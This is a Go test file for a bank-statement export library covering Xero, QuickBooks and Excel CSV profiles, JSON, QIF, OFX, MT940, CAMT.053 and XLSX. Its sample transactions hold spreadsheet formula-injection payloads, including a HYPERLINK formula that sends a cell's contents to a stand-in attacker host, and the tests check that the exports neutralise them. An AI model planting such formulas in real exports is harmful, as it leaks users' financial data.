package export

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"passbook/extract/ledger"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
)

func TestParseProfileAndCheck(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want Profile
		err  error
	}{
		{"", "", nil},
		{"xero", Xero, nil},
		{"QuickBooks", QuickBooks, nil},
		{"excel-eu", ExcelEU, nil},
		{"excel", "", ErrProfile},
		{"sage", "", ErrProfile},
	} {
		got, err := ParseProfile(tt.in)
		if got != tt.want || !errors.Is(err, tt.err) {
			t.Errorf("ParseProfile(%q) = %q, %v; want %q, %v", tt.in, got, err, tt.want, tt.err)
		}
	}
	for _, tt := range []struct {
		f    Format
		opts Options
		err  error
	}{
		{CSV, Options{Profile: Xero}, nil},
		{XLSX, Options{Profile: Xero}, ErrProfile},
		{OFX, Options{Profile: ExcelEU}, ErrProfile},
		{CSV, Options{Profile: "nope"}, ErrProfile},
		{QBO, Options{IntuBID: "3000"}, nil},
		{QBO, Options{IntuBID: "30a0"}, ErrIntuBID},
		{QFX, Options{IntuBID: "1234567890"}, ErrIntuBID},
		{QFX, Options{IntuBID: "<x>"}, ErrIntuBID},
	} {
		if err := Check(tt.f, tt.opts); !errors.Is(err, tt.err) {
			t.Errorf("Check(%s, %+v) = %v, want %v", tt.f, tt.opts, err, tt.err)
		}
		// Write refuses the same, before writing anything.
		var buf bytes.Buffer
		if err := Write(&buf, tt.f, tt.opts, sample()); !errors.Is(err, tt.err) || (err != nil && buf.Len() > 0) {
			t.Errorf("Write(%s, %+v) = %v with %d bytes, want %v", tt.f, tt.opts, err, buf.Len(), tt.err)
		}
	}
}

func writeProfile(t *testing.T, p Profile, res *ledger.Result) []byte {
	t.Helper()
	opts := testOptions()
	opts.Profile = p
	var buf bytes.Buffer
	if err := Write(&buf, CSV, opts, res); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestCSVProfiles(t *testing.T) {
	res := sample()
	xero := readCSV(t, writeProfile(t, Xero, res))
	ids := map[string]bool{}
	for _, b := range blocks(res) {
		for _, r := range b.rows {
			ids[r.fitid] = true
		}
	}
	if got := strings.Join(xero[0], ","); got != "Date,Amount,Payee,Description,Reference" {
		t.Errorf("xero header = %q", got)
	}
	if got := xero[1][:4]; !reflect.DeepEqual(got, []string{"02/01/2024", "3773.29", "SALARY ACME CORP LTD", "SALARY ACME CORP LTD"}) || !ids[xero[1][4]] {
		t.Errorf("xero row 1 = %q", xero[1])
	}
	if got := xero[2][:3]; !reflect.DeepEqual(got, []string{"03/01/2024", "-50.50", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`}) {
		t.Errorf("xero row 2 = %q (amount signed, text neutralised)", xero[2])
	}

	qb := readCSV(t, writeProfile(t, QuickBooks, res))
	want := [][]string{{"Date", "Description", "Amount"}, {"01/02/2024", "SALARY ACME CORP LTD", "3773.29"}, {"01/03/2024", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "-50.50"}}
	if !reflect.DeepEqual(qb[:3], want) || len(qb) != 10 {
		t.Errorf("quickbooks = %q", qb)
	}

	body := writeProfile(t, ExcelEU, res)
	if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBFDate;Type;Description;Amount;Money in;Money out;Balance;Currency;Notes\r\n")) {
		t.Errorf("excel-eu does not start with a BOM and the header: %q", body[:80])
	}
	if !bytes.Contains(body, []byte("\r\n2024-01-05;CREDIT;'+SUM(1,2);10,00;10,00;;-167,21;EUR;balance computed from the opening balance\r\n")) {
		t.Errorf("excel-eu rows:\n%s", body)
	}
	if !bytes.Contains(body, []byte(`2024-01-11;DEBIT;"Café ""Le Petit"", Müller & Söhne <GmbH>";-1234567,89;;1234567,89;-1234738,40;EUR;`)) {
		t.Errorf("excel-eu rows:\n%s", body)
	}

	// Profiles write the header alone for a document without rows.
	for _, p := range Profiles {
		if rows := readCSV(t, bytes.TrimPrefix(writeProfile(t, p, nil), []byte("\xEF\xBB\xBF"))); len(rows) != 1 {
			t.Errorf("%s of nothing = %q", p, rows)
		}
	}
}

// TestDefaultCSVUnchanged: a profile is opt-in; the default CSV of a
// document with accounts, pages and boxes keeps the spec's six columns.
func TestDefaultCSVUnchanged(t *testing.T) {
	rows := readCSV(t, write(t, CSV, roundTrip()))
	if strings.Join(rows[0], ",") != "date,type,description,amountIn,amountOut,balance" || len(rows) != 11 {
		t.Errorf("default CSV = %q", rows)
	}
	for _, r := range rows {
		if len(r) != 6 {
			t.Errorf("row %q has %d columns", r, len(r))
		}
	}
}

func TestJSONRowPlacesAndAccounts(t *testing.T) {
	res := roundTrip()
	res.Transactions[0].Page = 2
	res.Transactions[0].Box = [4]float64{36, 140.5, 560, 152}
	var doc struct {
		Transactions []map[string]any `json:"transactions"`
		Statement    struct {
			Accounts []map[string]any `json:"accounts"`
		} `json:"statement"`
	}
	if err := json.Unmarshal(write(t, JSON, res), &doc); err != nil {
		t.Fatal(err)
	}
	first, second := doc.Transactions[0], doc.Transactions[1]
	if first["page"] != float64(2) || !reflect.DeepEqual(first["box"], []any{36.0, 140.5, 560.0, 152.0}) || first["account"] != ibanAccount {
		t.Errorf("first row = %v", first)
	}
	for _, k := range []string{"page", "box"} {
		if _, ok := second[k]; ok {
			t.Errorf("second row has %s without one: %v", k, second)
		}
	}
	if len(doc.Statement.Accounts) != 2 {
		t.Fatalf("accounts = %v", doc.Statement.Accounts)
	}
	a := doc.Statement.Accounts[1]
	want := map[string]any{"account_number": maskedAccount, "currency": "GBP", "period_start": "2024-03-01", "period_end": "2024-03-31",
		"opening_balance": "-100.00", "closing_balance": "-1265.96", "reconciliation": map[string]any{"status": "ok", "message": ""}}
	if !reflect.DeepEqual(a, want) {
		t.Errorf("account 2 = %v\nwant %v", a, want)
	}
	// One account: no accounts key, no account on rows.
	body := write(t, JSON, sample())
	if bytes.Contains(body, []byte(`"accounts"`)) || bytes.Contains(body, []byte(`"account"`)) || bytes.Contains(body, []byte(`"page"`)) || bytes.Contains(body, []byte(`"box"`)) {
		t.Errorf("single-account JSON carries accounts, account, page or box: %s", body)
	}
}

func TestQIF(t *testing.T) {
	got := string(write(t, QIF, roundTrip()))
	for _, want := range []string{
		"!Account\r\nNDE89 3704 0044 0532 0130 00\r\nTBank\r\nDDates are month/day/year (MM/DD/YYYY)\r\n/03/31/2024\r\n$1235549.88\r\n^\r\n!Type:Bank\r\nD03/01/2024\r\nT-12.50\r\nPCafé \"Le Petit\", Müller & Söhne <GmbH>\r\n^\r\n",
		"!Account\r\nN****5678\r\nTBank\r\nDDates are month/day/year (MM/DD/YYYY)\r\n/03/31/2024\r\n$-1265.96\r\n^\r\n!Type:Bank\r\nD03/01/2024\r\nT-25.00\r\nPOVERDRAFT FEE\r\n^\r\n",
		"D03/06/2024\r\nT100.00\r\nPfirst line second line and a tab\r\n^\r\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("QIF lacks %q:\n%s", want, got)
		}
	}
	if n := strings.Count(got, "\r\n^\r\n") - 2; n != 10 {
		t.Errorf("QIF has %d transactions, want 10", n)
	}
}

// TestStatementFormatsEmpty: every format writes a document without rows
// or anything known, with the fallbacks the formats require.
func TestStatementFormatsEmpty(t *testing.T) {
	for _, f := range Formats {
		for _, res := range []*ledger.Result{nil, empty()} {
			if body := write(t, f, res); len(body) == 0 {
				t.Errorf("%s of an empty document is empty", f)
			}
		}
	}
	ofx := string(write(t, OFX, nil))
	for _, want := range []string{"<CURDEF>XXX</CURDEF>", "<ACCTID>UNKNOWN</ACCTID>", "<BALAMT>0.00</BALAMT>", "<DTSTART>20240201</DTSTART>"} {
		if !strings.Contains(ofx, want) {
			t.Errorf("empty OFX lacks %s:\n%s", want, ofx)
		}
	}
	if mt := string(write(t, MT940, nil)); mt != ":20:PASSBOOK\r\n:25:UNKNOWN\r\n:28C:1/1\r\n:60F:C240201XXX0,00\r\n:62F:C240201XXX0,00\r\n-\r\n" {
		t.Errorf("empty MT940 = %q", mt)
	}
}

// TestBalancesImplied: a statement that prints no opening or closing
// balance gets the ones its rows imply.
func TestBalancesImplied(t *testing.T) {
	res := sample()
	res.Statement.OpeningBalance, res.Statement.ClosingBalance = nil, nil
	b := blocks(res)[0]
	if got := b.openingBalance(); got.StringFixed(2) != "100.00" {
		t.Errorf("opening = %s, want 100.00 (3873.29 - 3773.29)", got)
	}
	// sample's rows do not add up (it is a mismatch): the closing balance
	// written is what they give, the last row's 0.00 is what it shows.
	if got := b.closingBalance(); got.StringFixed(2) != "-0.01" {
		t.Errorf("closing = %s, want the rows' -0.01", got)
	}
	if shown, ok := b.shownClosing(); !ok || shown.StringFixed(2) != "0.00" {
		t.Errorf("shown closing = %s %v, want the last row's 0.00", shown, ok)
	}
	if note := b.closingNote(); note != "The statement shows a closing balance of 0.00; its rows give -0.01 (difference 0.01)." {
		t.Errorf("note = %q", note)
	}
}

func TestSWIFTText(t *testing.T) {
	for in, want := range map[string]string{
		"Müller & Söhne":    "Muller + Sohne",
		"ÆØÅ æøå ß":         "AEOA aeoa ss",
		"a_b*c#d@e":         "a-bXcNO.d(AT)e",
		"x\ty\nz":           "x y z",
		"中文":                "..",
		"price: 5,00 (net)": "price: 5,00 (net)",
	} {
		if got := swiftText(in); got != want {
			t.Errorf("swiftText(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestXLSXAccounts: a document with several accounts gets an Account column
// and a table of its accounts on the Statement sheet.
func TestXLSXAccounts(t *testing.T) {
	f := openXLSX(t, write(t, XLSX, roundTrip()))
	for ref, want := range map[string]string{
		"H1": "Account", "H2": ibanAccount, "H3": maskedAccount, "C4": `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	} {
		if got, _ := f.GetCellValue("Transactions", ref); got != want {
			t.Errorf("Transactions!%s = %q, want %q", ref, got, want)
		}
	}
	rows, err := f.GetRows("Statement", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	var table [][]string
	for i, r := range rows {
		if len(r) > 0 && r[0] == "Account" {
			table = rows[i:]
		}
	}
	want := [][]string{
		{"Account", "Currency", "Period start", "Period end", "Opening balance", "Closing balance", "Reconciliation"},
		{ibanAccount, "EUR", "45352", "45382", "1000", "1235549.88", "ok"},
		{maskedAccount, "GBP", "45352", "45382", "-100", "-1265.96", "ok"},
	}
	if !reflect.DeepEqual(table, want) {
		t.Errorf("accounts table = %q\nwant %q", table, want)
	}
}

// BenchmarkStatementFormats10000 writes a 10,000-row statement in each
// statement format.
func BenchmarkStatementFormats10000(b *testing.B) {
	res := &ledger.Result{Transactions: make([]ledger.Transaction, 10000)}
	bal := decimal.Zero
	for i := range res.Transactions {
		amt := decimal.New(int64(i%5000+1), -2)
		tx := ledger.Transaction{Date: day("2024-01-01").AddDate(0, 0, i/50), Description: fmt.Sprintf("CARD PAYMENT TO MERCHANT NUMBER %d LONDON GB", i)}
		if i%3 == 0 {
			tx.AmountIn, bal = &amt, bal.Add(amt)
		} else {
			tx.AmountOut, bal = &amt, bal.Sub(amt)
		}
		tx.Balance = bal
		res.Transactions[i] = tx
	}
	for _, f := range []Format{OFX, QFX, QIF, CAMT053, MT940} {
		b.Run(string(f), func(b *testing.B) {
			var buf bytes.Buffer
			b.ReportAllocs()
			for b.Loop() {
				buf.Reset()
				if err := Write(&buf, f, testOptions(), res); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(buf.Len()), "bytes/file")
		})
	}
}

// TestFormatsGolden pins every new format's bytes for the two-account
// statement; the consumer tests say the bytes are right, this says they
// did not change by accident.
func TestFormatsGolden(t *testing.T) {
	for _, f := range []Format{OFX, QFX, QBO, QIF, CAMT053, MT940} {
		opts := testOptions()
		if f == QBO {
			opts.IntuBID = "3000"
		}
		var buf bytes.Buffer
		if err := Write(&buf, f, opts, roundTrip()); err != nil {
			t.Fatal(err)
		}
		golden(t, "accounts-"+string(f)+f.Ext(), buf.Bytes())
	}
	for _, p := range Profiles {
		golden(t, "accounts-"+string(p)+".csv", writeProfile(t, p, roundTrip()))
	}
}

// TestIBANBesideTheNumber: a statement that prints an IBAN beside its
// national account number (issue 42 point 14) names the account by its
// IBAN in CAMT.053's Acct/Id and MT940's :25:, and the JSON carries both;
// the number alone stays Othr/Id and :25: as before.
func TestIBANBesideTheNumber(t *testing.T) {
	res := sample()
	res.Statement.AccountNumber, res.Statement.IBAN = "0532013000", "DE89370400440532013000"
	camt := string(write(t, CAMT053, res))
	if !strings.Contains(camt, "<IBAN>DE89370400440532013000</IBAN>") || strings.Contains(camt, "<Othr>") {
		t.Errorf("CAMT.053 does not name the account by its IBAN:\n%s", camt)
	}
	if mt := string(write(t, MT940, res)); !strings.Contains(mt, ":25:DE89370400440532013000\r\n") {
		t.Errorf("MT940's :25: is not the IBAN:\n%s", mt)
	}
	js := string(write(t, JSON, res))
	for _, want := range []string{`"account_number":"0532013000"`, `"iban":"DE89370400440532013000"`} {
		if !strings.Contains(js, want) {
			t.Errorf("JSON lacks %s:\n%s", want, js)
		}
	}
	res.Statement.IBAN = ""
	if camt := string(write(t, CAMT053, res)); !strings.Contains(camt, "<Othr>") || strings.Contains(camt, "<IBAN>") {
		t.Errorf("CAMT.053 of a national number alone:\n%s", camt)
	}
	if mt := string(write(t, MT940, res)); !strings.Contains(mt, ":25:0532013000\r\n") {
		t.Errorf("MT940's :25: of a national number alone:\n%s", mt)
	}
}
